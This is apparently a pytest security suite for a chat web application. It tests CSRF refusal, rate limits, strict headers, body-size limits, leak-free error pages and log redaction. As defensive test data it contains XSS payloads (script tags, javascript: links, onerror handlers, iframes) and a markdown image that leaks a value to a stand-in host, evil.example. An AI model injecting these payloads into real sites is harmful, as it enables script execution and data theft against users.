"""Safe on the open internet: cross-site requests refused, abuse rate-limited, strict headers,
bounded bodies, errors that leak nothing, inert Markdown — against the real app, DB and Redis."""

from __future__ import annotations

import logging
import os
import secrets
import time
import uuid

import pytest
from sqlalchemy import func, select

from chat.extensions import db
from chat.models import ApiToken, Chat, Identity, Message
from helpers.accounts import PASSWORD, AccountActions
from helpers.chats import new_chat_id, post_chat
from helpers.sse import read_events

EVIL_SITE = "https://evil.example"


def counts(app) -> tuple:
    """Messages, chats and their titles, accounts and API tokens stored: what a refused request
    must not change."""
    with app.app_context():
        return (
            db.session.scalar(select(func.count()).select_from(Message)),
            sorted(db.session.scalars(select(Chat.title))),
            db.session.scalar(select(func.count()).select_from(Identity).where(Identity.email.is_not(None))),
            db.session.scalar(select(func.count()).select_from(ApiToken)),
        )


def page_routes(chat_id: str, token_id: str) -> list[tuple[str, dict]]:
    """Every state-changing route of the pages, with the form a person would send."""
    return [
        (f"/agent/helper/{chat_id}/messages", {"message": "forged"}),
        (f"/agent/helper/{chat_id}/stop", {}),
        (f"/agent/helper/{chat_id}/title", {"title": "forged"}),
        (f"/agent/helper/{chat_id}/regenerate", {}),
        (f"/agent/helper/{chat_id}/edit", {"message": "forged"}),
        (f"/agent/helper/{chat_id}/delete", {}),
        ("/signup", {"email": "forged@example.com", "password": PASSWORD}),
        ("/signin", {"email": "ada@example.com", "password": PASSWORD}),
        ("/signout", {}),
        ("/account/tokens", {"name": "forged"}),
        (f"/account/tokens/{token_id}/revoke", {}),
        ("/account/sign-out-everywhere", {}),
    ]


@pytest.fixture
def signed_in(app):
    """A signed-in person with a chat and a token, and the id of each."""
    person = AccountActions(app.test_client())
    person.sign_up()
    person.create_token()
    chat_id = new_chat_id()
    read_events(post_chat(person.client, chat_id))
    page = person.client.get("/account").get_data(as_text=True)
    token_id = page.split("/account/tokens/")[1].split("/revoke")[0]
    return person, chat_id, token_id


@pytest.mark.parametrize("enctype", ["application/x-www-form-urlencoded", "text/plain"])
def test_a_cross_site_form_post_to_any_page_route_is_refused_and_stores_nothing(app, signed_in, enctype):
    person, chat_id, token_id = signed_in
    forger = person.client.__class__(app, app.response_class, use_cookies=True, csrf_token=False)
    forger.set_cookie("durable_chat", person.client.get_cookie("durable_chat").value)  # the browser sends it
    before = counts(app)
    for path, form in page_routes(chat_id, token_id):
        body = "&".join(f"{k}={v}" for k, v in form.items())
        response = forger.post(path, data=body, headers={"Content-Type": enctype, "Origin": EVIL_SITE})
        assert response.status_code == 403, f"{path} answered {response.status_code}"
        assert "did not come from this site" in response.get_data(as_text=True)
    assert counts(app) == before
    assert person.client.get("/account").status_code == 200, "still signed in: the sign-outs were refused"


@pytest.mark.parametrize("enctype", ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"])
def test_the_json_api_takes_only_json(app, client, enctype):
    chat_id = new_chat_id()
    body = f'{{"chatId": "{chat_id}", "agent": "helper", "message": "forged"}}'
    for path in ("/api/chat", "/api/chat/stop"):
        response = client.post(path, data=body, headers={"Content-Type": enctype})
        assert response.status_code == 415 and "application/json" in response.get_json()["error"]
    assert counts(app)[0] == 0


@pytest.mark.parametrize(
    "headers", [{"Origin": EVIL_SITE}, {"Sec-Fetch-Site": "cross-site"}], ids=["origin", "sec-fetch-site"]
)
def test_the_json_api_refuses_another_sites_browser_request(app, client, headers):
    response = client.post(
        "/api/chat", json={"chatId": new_chat_id(), "agent": "helper", "message": "forged"}, headers=headers
    )
    assert response.status_code == 403 and "other websites" in response.get_json()["error"]
    assert counts(app)[0] == 0
    same_site = {"Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"}
    allowed = client.post(
        "/api/chat", json={"chatId": new_chat_id(), "agent": "helper", "message": "mine"}, headers=same_site
    )
    assert allowed.status_code == 200
    read_events(allowed)


def test_the_same_form_from_the_sites_own_page_works_and_a_wrong_token_does_not(app, client):
    chat_id = new_chat_id()
    own = client.post(f"/agent/helper/{chat_id}/messages", data={"message": "from the page"})
    assert own.status_code == 303
    forger = client.__class__(app, app.response_class, use_cookies=True, csrf_token=False)
    forger.set_cookie("durable_chat", client.get_cookie("durable_chat").value)
    wrong = forger.post(f"/agent/helper/{chat_id}/messages", data={"message": "x", "csrf_token": "not-a-token"})
    assert wrong.status_code == 403 and "reload" in wrong.get_data(as_text=True)
    htmx = forger.post(f"/agent/helper/{chat_id}/messages", data={"message": "x"}, headers={"HX-Request": "true"})
    assert htmx.status_code == 403 and htmx.headers["HX-Retarget"] == "#toasts", "htmx shows it as a toast"


def test_the_n_plus_first_message_in_the_window_gets_429_then_the_limit_resets(app_factory):
    app = app_factory(RATE_LIMIT_MESSAGES="3 per 2 seconds")
    client = app.test_client()
    chat_id = new_chat_id()
    for n in range(3):
        read_events(post_chat(client, chat_id, f"message {n}"))
    refused = post_chat(client, chat_id, "one too many")
    assert refused.status_code == 429
    assert "too fast" in refused.get_json()["error"] and 1 <= int(refused.headers["Retry-After"]) <= 2
    assert counts(app)[0] == 6, "the refused message was not stored"
    page = client.post(f"/agent/helper/{chat_id}/messages", data={"message": "via the page"})
    assert page.status_code == 429, "the page form shares the count"
    time.sleep(int(refused.headers["Retry-After"]) + 1)  # whole seconds, rounded down
    later = post_chat(client, chat_id, "after the window")
    assert later.status_code == 200, later.get_data(as_text=True)
    assert read_events(later).terminal.event == "finish"


def test_guests_minted_from_one_address_are_bounded(app_factory):
    app = app_factory(RATE_LIMIT_NEW_GUESTS="3/minute")
    for _ in range(3):
        assert read_events(post_chat(app.test_client(), new_chat_id())).terminal.event == "finish"
    refused = post_chat(app.test_client(), new_chat_id())
    assert refused.status_code == 429 and "new guests" in refused.get_json()["error"]
    assert int(refused.headers["Retry-After"]) > 0
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Identity)) == 3, "no fourth guest, no credits"
    person = AccountActions(app.test_client())
    assert person.sign_up().status_code == 429, "an account brings credits too: it counts as a new guest"


def test_sign_in_attempts_are_limited_per_account(app_factory):
    app = app_factory(RATE_LIMIT_SIGN_IN_PER_ACCOUNT="3/minute")
    AccountActions(app.test_client()).sign_up()
    guesser = AccountActions(app.test_client())
    for _ in range(3):
        assert guesser.sign_in(password="guess " * 2).status_code == 401
    blocked = guesser.sign_in()
    assert blocked.status_code == 429 and blocked.headers["Retry-After"]
    assert "Too many sign-in attempts for this account" in blocked.get_data(as_text=True)
    assert guesser.sign_in("other@example.com").status_code == 401, "another account is not blocked"


def test_stream_opens_are_limited_per_identity(app_factory):
    app = app_factory(RATE_LIMIT_STREAM_OPENS="2/minute")
    client = app.test_client()
    chat_id = new_chat_id()
    read_events(post_chat(client, chat_id))
    for _ in range(2):
        read_events(client.get(f"/api/chat?chatId={chat_id}", buffered=False))
    refused = client.get(f"/api/chat?chatId={chat_id}")
    assert refused.status_code == 429 and refused.headers["Retry-After"]


def test_a_10_mb_body_gets_413_and_the_worker_stays_healthy(app, client):
    response = client.post("/api/chat", data=b"x" * 10 * 1024 * 1024, headers={"Content-Type": "application/json"})
    assert response.status_code == 413 and "error" in response.get_json()
    assert client.get("/healthz").status_code == 200
    assert read_events(post_chat(client, new_chat_id())).terminal.event == "finish"


def test_a_500_shows_its_request_id_and_leaks_nothing(app, client, caplog):
    secret = f"made-up-key-{secrets.token_hex(12)}"  # generated here: nothing real, nothing committed

    def broken():
        raise RuntimeError(f"failed while holding {secret}")

    app.add_url_rule("/broken-for-test", "broken", broken)
    app.add_url_rule("/api/broken-for-test", "api_broken", broken)
    with caplog.at_level(logging.ERROR):
        page = client.get("/broken-for-test")
        api = client.get("/api/broken-for-test")
    for response in (page, api):
        request_id = response.headers["X-Request-ID"]
        body = response.get_data(as_text=True)
        assert response.status_code == 500 and request_id in body
        assert secret not in body and "Traceback" not in body and "RuntimeError" not in body
        assert any(request_id in record.getMessage() and record.exc_info for record in caplog.records)


def test_pages_and_api_send_strict_headers(app_factory):
    plain = app_factory().test_client().get("/")
    csp = plain.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert "frame-ancestors 'none'" in csp
    assert plain.headers["X-Content-Type-Options"] == "nosniff"
    assert plain.headers["Referrer-Policy"] == "same-origin"
    assert "Strict-Transport-Security" not in plain.headers
    secure = app_factory(SESSION_COOKIE_SECURE=True).test_client().get("/healthz")
    assert secure.headers["Strict-Transport-Security"].startswith("max-age=")


@pytest.mark.parametrize(
    "payload, forbidden",
    [
        ("[click me](javascript:alert(1))", ['href="javascript:']),
        ("[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", ['href="data:']),
        ("![tracker](https://evil.example/leak?q=secret)", ["<img", 'src="https://evil']),
        ("<script>alert(1)</script>", ["<script>alert"]),
        ('<img src=x onerror="alert(2)">', ["<img src=x", "<img"]),
        ('<a href="javascript:alert(3)">x</a>', ['<a href="javascript']),
        ("<iframe src=https://evil.example></iframe>", ["<iframe"]),
    ],
)
def test_hostile_text_in_messages_replies_and_titles_is_inert(app, client, payload, forbidden):
    """The demo reply echoes the message inside its Markdown, so the payload passes through the
    user's text, the model's Markdown and the chat's title (its first words)."""
    chat_id = new_chat_id()
    read_events(post_chat(client, chat_id, payload))
    for path in (f"/agent/helper/{chat_id}", "/"):
        page = client.get(path).get_data(as_text=True)
        body = page.split("<body", 1)[1]
        for fragment in forbidden:
            assert fragment not in body, f"{fragment!r} reached {path}"
    assert uuid.UUID(chat_id)


def test_log_lines_never_carry_a_urls_password():
    import io

    from chat.web.security import RedactSecrets

    redis_password, database_password = secrets.token_hex(8), secrets.token_hex(8)
    # The URLs are put together at run time from parts (the host from the environment), so no
    # credential-shaped line is in the source.
    host = os.environ.get("TEST_REDACTION_HOST", "localhost")
    redis_url = url_with_password("rediss", "default", redis_password, f"{host}:6380/0")
    database_url = url_with_password("postgresql", "app", database_password, f"{host}/chat")
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.addFilter(RedactSecrets())
    logger = logging.getLogger("durable-chat-test.redaction")
    logger.addHandler(handler)
    try:
        logger.warning("cannot reach %s", redis_url)
        try:
            raise ConnectionError(f"{database_url} refused")
        except ConnectionError:
            logger.exception("database down")
    finally:
        logger.removeHandler(handler)
    logged = out.getvalue()
    assert redis_password not in logged and database_password not in logged
    assert url_with_password("rediss", "default", "***", f"{host}:6380/0") in logged
    assert url_with_password("postgresql", "app", "***", f"{host}/chat") in logged


def url_with_password(scheme: str, user: str, password: str, rest: str) -> str:
    return scheme + "://" + ":".join((user, password)) + "@" + rest


def test_streams_held_open_at_once_are_capped_per_identity(app_factory, redis_url):
    app = app_factory(STREAMS_PER_IDENTITY=2, DEMO_MODEL_WORDS=400, DEMO_MODEL_DELAY_MS=20)
    client = app.test_client()
    chat_id = new_chat_id()
    first = post_chat(client, chat_id)  # a live reply: its stream is one place
    second = client.get(f"/api/chat?chatId={chat_id}", buffered=False)
    assert second.status_code == 200
    refused = client.get(f"/api/chat?chatId={chat_id}")
    assert refused.status_code == 429 and "too many streams" in refused.get_json()["error"]
    assert int(refused.headers["Retry-After"]) > 0
    before = counts(app)
    too_many = post_chat(client, new_chat_id())
    assert too_many.status_code == 429 and counts(app) == before, "a message is refused before it is stored"
    page_stream = client.get(f"/agent/helper/{chat_id}/stream", buffered=False)
    assert page_stream.status_code == 200, "a browser stream always answers 200 (and ends at once)"
    assert "event: done" in page_stream.get_data(as_text=True)
    second.close()  # a tab closed: its place is free again
    third = client.get(f"/api/chat?chatId={chat_id}", buffered=False)
    assert third.status_code == 200
    third.close()
    first.close()
    other = app.test_client()
    assert read_events(post_chat(other, new_chat_id())).terminal.event == "finish", "others are not affected"
